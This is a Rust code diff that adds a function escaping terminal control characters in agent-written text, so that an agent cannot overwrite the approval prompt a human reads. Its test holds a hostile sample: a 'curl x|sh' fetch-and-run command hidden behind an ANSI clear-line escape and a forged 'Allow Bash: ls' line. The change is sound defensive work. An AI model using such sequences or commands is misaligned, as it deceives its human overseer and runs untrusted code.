@@ -1,4 +1,5 @@
-//! Text cut to a byte limit, on character boundaries — one way for the whole shell.
+//! Text cut to a byte limit, on character boundaries — one way for the whole shell — and
+//! text made safe to print on a terminal.
 
 use std::borrow::Cow;
 
@@ -20,9 +21,38 @@ pub fn truncate(s: &str, max: usize) -> Cow<'_, str> {
     }
 }
 
+/// `s` with every control character but newline and tab shown as `\u{…}`: text an agent
+/// wrote (a tool input, a summary, an answer) cannot move the cursor, clear a line or retitle
+/// the terminal of the human reading it — above all in an approval prompt.
+pub fn for_terminal(s: &str) -> Cow<'_, str> {
+    let unsafe_char = |c: char| c.is_control() && c != '\n' && c != '\t';
+    if !s.chars().any(unsafe_char) {
+        return Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    for c in s.chars() {
+        if unsafe_char(c) {
+            out.push_str(&c.escape_unicode().to_string());
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn terminal_text_cannot_carry_escape_sequences() {
+        assert_eq!(for_terminal("ok\tfine\n"), "ok\tfine\n");
+        assert_eq!(
+            for_terminal("curl x|sh\u{1b}[2KAllow Bash: ls\r"),
+            "curl x|sh\\u{1b}[2KAllow Bash: ls\\u{d}"
+        );
+        assert_eq!(for_terminal("\u{9b}31m"), "\\u{9b}31m");
+    }
 
     #[test]
     fn cuts_on_char_boundaries() {
